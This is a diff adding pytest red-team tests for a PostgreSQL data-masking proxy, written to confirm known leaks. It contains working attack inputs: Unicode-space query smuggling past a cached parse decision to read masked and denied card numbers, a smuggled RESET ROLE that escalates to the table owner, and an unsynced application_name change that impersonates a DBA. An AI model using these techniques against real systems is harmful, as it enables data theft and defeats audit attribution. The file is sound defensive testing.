@@ -1,0 +1,215 @@
+"""Red team, third round: security model v2 (database roles, schema-qualified rendering, shape
+cache, settings tracking, constant concealment, volatility, diagnostics catalogs, audit ahead).
+
+Same attacker as tests/integration/test_redteam.py: `vendor_zhang` of policies/examples/demo.yaml
+(select only, mobile / id_card / person_name masked, bank_card denied, no predicates on masked
+classes, `branch_id = 12` on customers, 200 rows, no audit_trail, runs upstream as crm_vendor),
+and `desk_li` (service_desk, select + update, runs upstream as crm_desk via SET ROLE). Every test
+asserts the SECURE behaviour. A test marked `xfail(strict=True, reason="LEAK: ...")` is a leak
+confirmed today against the real proxy in front of a real PostgreSQL: it fails because the data
+gets out (or the identity changes). Remove the marker once the proxy is fixed.
+"""
+
+from __future__ import annotations
+
+import time
+from collections.abc import Iterator
+from typing import Any
+
+import psycopg
+import pytest
+
+from proxy.demo.embedded_pg import EmbeddedPostgres
+from proxy.pg import messages as m
+from tests.conftest import start_crm
+from tests.integration.harness import serve_demo
+from tests.integration.test_redteam import Wire, errors_of, leaked, rows
+
+SVC_PW = "svc-secret-redteam-v3"
+VENDOR = ("vendor_zhang", "vendor-pass")
+DESK = ("desk_li", "desk-pass")
+DBA = ("dba_wang", "dba-pass")
+
+
+# ---------------------------------------------------------------------------------------------
+# Fixtures: one cluster, one App, ground truth read directly from PostgreSQL
+# ---------------------------------------------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def crm(tmp_path_factory: pytest.TempPathFactory) -> Iterator[EmbeddedPostgres]:
+    pg = start_crm(tmp_path_factory.mktemp("pg-redteam-v3"), SVC_PW, 400)
+    try:
+        yield pg
+    finally:
+        pg.destroy()
+
+
+@pytest.fixture(scope="module")
+def served(crm: EmbeddedPostgres, tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
+    with serve_demo(tmp_path_factory.mktemp("redteam-v3"), crm, SVC_PW) as s:
+        yield s
+
+
+@pytest.fixture(scope="module")
+def truth(crm: EmbeddedPostgres) -> dict[str, Any]:
+    """The secrets, read as the service account straight from PostgreSQL (never via the proxy)."""
+    with psycopg.connect(crm.dsn("maskgate_svc", SVC_PW, "crm")) as c:
+        cust = c.execute(
+            "SELECT id, name, phone, id_card, bank_card, branch_id FROM customers ORDER BY id"
+        ).fetchall()
+    secrets: set[str] = set()
+    for r in cust:
+        secrets.update(x for x in r[2:5] if x)
+    return {
+        "secrets": secrets,
+        "names": {r[1] for r in cust},
+        "cards": {r[4] for r in cust if r[4]},
+        "other_branches": {r[0] for r in cust if r[5] != 12},
+    }
+
+
+def connect(served: dict[str, Any], who: tuple[str, str] = VENDOR, **kw: Any) -> psycopg.Connection[Any]:
+    kw.setdefault("autocommit", True)
+    return psycopg.connect(
+        host="127.0.0.1",
+        port=served["port"],
+        user=who[0],
+        password=who[1],
+        dbname="crm",
+        sslmode="disable",
+        **kw,
+    )
+
+
+def wire_as(served: dict[str, Any], who: tuple[str, str] = VENDOR) -> Wire:
+    import tests.integration.test_redteam as base
+
+    saved = base.VENDOR
+    base.VENDOR = who
+    try:
+        return Wire(served["port"])
+    finally:
+        base.VENDOR = saved
+
+
+@pytest.fixture()
+def wire(served: dict[str, Any]) -> Iterator[Wire]:
+    w = wire_as(served)
+    try:
+        yield w
+    finally:
+        w.close()
+
+
+def _decoded(out: list[tuple[Any, ...]]) -> list[list[str | None]]:
+    return [[None if v is None else bytes(v).decode() for v in r] for r in rows(out)]
+
+
+# ---------------------------------------------------------------------------------------------
+# 1. The shape cache reuses a decision without the lexical checks of the full parse
+# ---------------------------------------------------------------------------------------------
+#
+# policies/engine.py keys a statement's shape by sqlglot's tokens (types and texts, comments,
+# the literal slots taken out), not by the characters between tokens. Once two statements of a
+# shape got the same decision, a third one of the same shape is decided from the cache: it is
+# never parsed, so `_same_words_as_the_server` (policies/sql/parser.py), which refuses U+3000
+# between words, never sees it. A shape whose statement names no relation and has its own
+# LIMIT <= max_rows is not rewritten: the client's text goes upstream as written.
+#
+# `SELECT interval $$<body>$$ WHERE 1 = 1 LIMIT 1` is, to sqlglot, an interval literal: allowed,
+# no relation, sent as written. With U+3000 (the ideographic space) instead of the space before
+# `$$`, PostgreSQL reads `interval　$$` as one identifier and <body> as SQL; the shape (and so
+# the cached decision) is the same. <body> names its table alias with a Unicode escape so it
+# holds no `$$`; it ends in `--`, which comments out the closing `$$`, the WHERE and the LIMIT.
+
+ALIAS = r'U&"interval\3000\0024\0024"'  # the identifier `interval<U+3000>$$`
+
+
+def _smuggle(w: Wire, body: str, n: int) -> list[tuple[Any, ...]]:
+    """Teach the shape with two harmless statements, then send the one the server reads apart."""
+    for lit in (n, n + 1):
+        w.query(f"SELECT interval $${body}$$ WHERE {lit} = {lit} LIMIT 1")
+    return w.query(f"SELECT interval\u3000$${body}$$ WHERE {n + 2} = {n + 2} LIMIT 1")
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="LEAK: a shape-cache hit skips the lexer check; `interval<U+3000>$$…$$` reaches the server "
+    "as written and reads full phones, id cards and the denied bank_card",
+)
+def test_shape_cache_hit_skips_the_lexer_check_and_reads_clear_numbers(
+    wire: Wire, truth: dict[str, Any]
+) -> None:
+    body = (
+        f".phone::bigint, {ALIAS}.id_card::numeric, {ALIAS}.bank_card::numeric, {ALIAS}.branch_id "
+        f"FROM customers AS {ALIAS} --"
+    )
+    out = _smuggle(wire, body, 101)
+    got = _decoded(out)
+    assert not leaked(truth["secrets"], got), "full phones / id cards / denied bank cards"
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="LEAK: the same shape-cache smuggling runs `RESET ROLE` for the SET ROLE form (desk): the "
+    "session then runs as the service account, the tables' owner, and the proxy never notices",
+)
+def test_shape_cache_smuggled_reset_role_changes_who_the_session_is(served: dict[str, Any]) -> None:
+    w = wire_as(served, DESK)
+    try:
+        body = (
+            f".x FROM (SELECT 1 AS x) AS {ALIAS}; RESET ROLE; "
+            "SELECT count(*)::text FROM audit_trail --"
+        )
+        _smuggle(w, body, 201)
+        out = w.query("SELECT current_user::text, session_user::text")
+        current = _decoded(out)
+    finally:
+        w.close()
+    assert current == [["crm_desk", "maskgate_svc"]], current
+
+
+# ---------------------------------------------------------------------------------------------
+# 2. application_name: the prefix is put back only at ReadyForQuery
+# ---------------------------------------------------------------------------------------------
+#
+# A session may rename itself; the proxy restores `maskgate:<user>/…` with its own SET once the
+# server reports the change and nothing is in flight (proxy/pg/relay.py `_rename_back`, called
+# from ReadyForQuery). In the extended protocol nothing forces a Sync: until the client sends
+# one, the backend carries whatever name it chose, e.g. the DBA's. desk_li runs upstream as
+# session user maskgate_svc, exactly like the DBA, so pg_stat_activity (and the server log's %a
+# / %u) attribute its statements to dba_wang.
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="LEAK: until the client's Sync, an extended-protocol SET application_name = "
+    "'maskgate:dba_wang/psql' stands upstream: the desk's statements are attributed to the DBA",
+)
+def test_application_name_can_impersonate_another_person_until_sync(
+    served: dict[str, Any], crm: EmbeddedPostgres
+) -> None:
+    w = wire_as(served, DESK)
+    try:
+        (pid,) = [int(v) for r in rows(w.query("SELECT pg_backend_pid()")) for v in r if v is not None]
+        w.s.sendall(
+            b"".join(
+                x.serialize()
+                for x in (
+                    m.Parse("", "SET application_name = 'maskgate:dba_wang/psql'"),
+                    m.Bind("", ""),
+                    m.Execute(""),
+                    m.Parse("", "UPDATE customers SET email = email WHERE id = 1"),
+                    m.Bind("", ""),
+                    m.Execute(""),
+                    m.Flush(),  # no Sync: no ReadyForQuery, so no rename back
+                )
+            )
+        )
+        time.sleep(0.5)
+        seen = crm.psql(f"SELECT usename || '|' || application_name FROM pg_stat_activity WHERE pid = {pid}")
+        w.run(m.Sync())
+    finally:
+        w.close()
+    assert seen.strip().endswith("maskgate:desk_li") or "maskgate:desk_li/" in seen, seen
